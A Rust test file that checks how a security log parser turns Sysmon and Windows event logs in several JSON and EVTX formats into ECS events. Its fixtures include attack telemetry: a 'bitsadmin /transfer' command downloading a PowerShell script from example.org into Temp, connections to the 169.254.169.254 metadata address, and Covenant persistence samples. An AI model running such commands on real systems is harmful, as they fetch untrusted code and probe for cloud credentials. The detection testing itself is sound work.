//! Golden ECS snapshots for Windows inputs: every `testdata/sysmon/json/*.json`
//! (one file per JSON shape: `evtx_dump`, Winlogbeat, NXLog/OTRF 2019, OTRF
//! 2020 flat, PowerShell `Get-WinEvent | ConvertTo-Json`) and every
//! `testdata/sysmon/evtx/*.evtx`, against `<input>.ecs.jsonl` (one
//! `Event::to_json()` per line, in emission order).
//!
//! `TRIPLINE_BLESS=1 cargo test -p tripline-parsers --test sysmon_golden`
//! rewrites the expected files; review the diff before committing.

mod common;

use std::io::BufReader;
use std::path::{Path, PathBuf};

use common::golden::Golden;
use tripline_parsers::Event;
use tripline_parsers::json::read_json;
use tripline_parsers::sysmon::evtx::EvtxReader;

fn dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../testdata/sysmon")
}

fn inputs() -> Vec<PathBuf> {
    let mut v = Vec::new();
    for sub in ["json", "evtx"] {
        for e in std::fs::read_dir(dir().join(sub)).expect("testdata/sysmon") {
            let p = e.unwrap().path();
            if p.extension().is_some_and(|x| x == "json" || x == "evtx") {
                v.push(p);
            }
        }
    }
    v.sort();
    v
}

fn parse(p: &Path) -> (Vec<Event>, Vec<String>) {
    let mut evs = Vec::new();
    let mut errs = Vec::new();
    let f = std::fs::File::open(p).unwrap();
    if p.extension().is_some_and(|x| x == "evtx") {
        let mut r = EvtxReader::new(f).unwrap();
        r.read(&mut |e| evs.push(e), &mut |e| errs.push(e.to_string()));
    } else {
        read_json(BufReader::new(f), 1 << 20, &mut |e| evs.push(e), &mut |e| {
            errs.push(e.to_string())
        })
        .unwrap();
    }
    (evs, errs)
}

#[test]
fn golden_windows_ecs_output() {
    let inputs = inputs();
    assert!(inputs.len() >= 8, "golden inputs missing: {}", inputs.len());
    let mut golden = Golden::new();
    for p in &inputs {
        let (evs, errs) = parse(p);
        let name = p.strip_prefix(dir()).unwrap().display().to_string();
        if !errs.is_empty() || evs.is_empty() {
            golden.fail(format!("{name}: {} events, errors {errs:?}", evs.len()));
        }
        let path = PathBuf::from(format!("{}.ecs.jsonl", p.display()));
        golden.check(&name, &evs, &path);
    }
    golden.finish();
}

/// Facts each shape must get right, independent of the snapshots.
#[test]
fn shape_facts() {
    let (evs, _) = parse(&dir().join("json/powershell_get_winevent.json"));
    assert_eq!(evs.len(), 3);
    let pc = &evs[0];
    assert_eq!(pc.event.action.as_deref(), Some("start"));
    assert_eq!(pc.process.pid, Some(7732));
    assert_eq!(
        pc.process.args,
        vec![
            "bitsadmin",
            "/transfer",
            "n",
            "https://example.org/a b.ps1",
            r"C:\Users\alice\AppData\Local\Temp\a.ps1"
        ]
    );
    assert_eq!(
        pc.process.parent.executable.as_deref(),
        Some(r"C:\Windows\System32\cmd.exe")
    );
    assert_eq!(pc.timestamp_rfc3339(), "2025-12-10T04:33:20.557Z");
    // No Message: names from the Sysmon schema order.
    let net = &evs[1];
    assert_eq!(net.event.action.as_deref(), Some("connection_attempted"));
    assert_eq!(net.destination.ip.as_deref(), Some("169.254.169.254"));
    assert_eq!(net.destination.port, Some(80));
    let sec = &evs[2];
    assert_eq!(sec.event.dataset.as_deref(), Some("windows.security"));
    assert_eq!(
        sec.extra_value("winlog.event_data.param6")
            .and_then(|v| v.as_str()),
        Some("alice")
    );

    let (evs, _) = parse(&dir().join("json/evtx_dump_findstr_recon_everyone.json"));
    assert_eq!(evs.len(), 3, "three concatenated evtx_dump objects");

    let (evs, _) = parse(&dir().join("json/winlogbeat_sysmon_sample.json"));
    assert_eq!(evs.len(), 2);
    assert_eq!(evs[0].event.action.as_deref(), Some("creation"));
    assert_eq!(
        evs[0].extra.get("agent.type").and_then(|v| v.as_str()),
        Some("winlogbeat")
    );

    let (evs, _) = parse(&dir().join("json/otrf_nxlog_covenant_persiststartup_excerpt.json"));
    let imds: Vec<&Event> = evs
        .iter()
        .filter(|e| e.destination.ip.as_deref() == Some("169.254.169.254"))
        .collect();
    assert_eq!(imds.len(), 2);
    assert!(imds.iter().all(|e| e.process.pid == Some(2980)));
}
